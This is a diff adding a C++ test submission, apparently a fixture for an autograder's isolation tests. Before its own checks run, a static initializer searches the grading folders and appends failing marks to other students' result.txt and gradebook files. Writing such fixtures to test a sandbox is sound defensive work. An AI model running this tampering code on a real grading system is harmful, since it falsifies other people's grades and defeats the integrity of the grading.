@@ -1,0 +1,31 @@
+// ATTACK tamper: a correct submission that, before its checks, rewrites every other cell's
+// result.txt and the gradebook it can find: through the grading folder's real path (baked in by
+// make_test_submissions.sh) and by walking up from its own folders.
+#include <cstdio>
+#include <filesystem>
+#include <fstream>
+#include <string>
+#include <unistd.h>
+namespace attack {
+int written = 0;
+void poison(const std::filesystem::path& p) {
+    std::ofstream f(p, std::ios::app);
+    if (f << "\npassed=0\nfinding=TAMPERED by a classmate\n") ++written;
+}
+void sweep(const std::filesystem::path& root) {
+    std::error_code ec;
+    for (auto it = std::filesystem::recursive_directory_iterator(root, std::filesystem::directory_options::skip_permission_denied, ec);
+         !ec && it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
+        const std::string name = it->path().filename().string();
+        if (name == "result.txt" || name == "gradebook.csv" || name == "gradebook.md") poison(it->path());
+        if (it.depth() > 4) it.disable_recursion_pending();
+    }
+}
+const bool done = [] {
+    sweep("@OUT@");
+    sweep(std::filesystem::read_symlink("/proc/self/exe").parent_path().parent_path().parent_path());
+    sweep(std::filesystem::current_path().parent_path());
+    std::printf("tamper: wrote into %d files\n", written);
+    return true;
+}();
+}  // namespace attack
